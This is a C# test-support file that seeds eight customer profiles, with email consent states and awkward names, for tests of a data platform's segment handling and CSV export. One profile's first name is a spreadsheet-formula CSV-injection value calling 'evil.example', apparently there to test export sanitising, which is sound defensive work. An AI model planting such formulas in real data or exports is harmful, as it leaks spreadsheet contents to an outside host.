using ProfileHub.Core.Profiles;
using ProfileHub.Core.Segments;
using ProfileHub.Core.Sources;
using ProfileHub.Testing;

namespace ProfileHub.Server.Tests.Support;

/// <summary>
/// A segment of eight members written straight to the store: p0 to p6 granted email consent, p7 unsubscribed;
/// p0's family name needs CSV quoting.
/// </summary>
internal static class AudienceData
{
    public static async Task SeedAsync(TestDatabase database, string segmentName, DateTimeOffset now)
    {
        await using var db = database.CreateContext();
        var connector = new Connector("crm", ConnectorKind.File, 50, now);
        db.Connectors.Add(connector);
        var segment = new Segment(segmentName, "touchpoints >= 0", null, null, now);
        db.Segments.Add(segment);
        await db.SaveChangesAsync();
        var lineage = new AttributeLineage(null, "crm", now, "SourceTrust", false);
        for (var i = 0; i < 8; i++)
        {
            var record = new SourceRecord(connector.Id, $"p{i}", now, now);
            record.Identifiers.Add(new RecordIdentifier(IdentifierKind.Email, $"p{i}@example.com", $"p{i}@example.com"));
            record.AddConsent(ConsentChannel.Email, i == 7 ? ConsentStatus.Unsubscribed : ConsentStatus.Granted, now.AddDays(-1));
            db.SourceRecords.Add(record);
            var profile = new GoldenProfile(Guid.CreateVersion7(now.AddMinutes(i)), now);
            List<ProfileAttributeValue> attributes =
            [
                new(AttributeNames.Email, $"p{i}@example.com", 0, lineage),
                new(AttributeNames.LastName, i == 0 ? "O\"Neil, Jr" : $"Person{i}", 0, lineage),
            ];
            if (i == 1)
            {
                // A name from a lead form that a spreadsheet would run as a formula (CSV injection), and an E.164 phone.
                attributes.Add(new(AttributeNames.FirstName, "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")", 0, lineage));
                attributes.Add(new(AttributeNames.Phone, "+447700900123", 0, lineage));
            }

            profile.ReplaceAttributes(attributes, now);
            db.Profiles.Add(profile);
            await db.SaveChangesAsync();
            db.Memberships.Add(new ProfileMembership(record.Id, profile.Id, null, null, LinkOrigin.Seed, now));
            db.SegmentMemberships.Add(new SegmentMembership(segment.Id, profile.Id, now));
        }

        await db.SaveChangesAsync();
    }
}
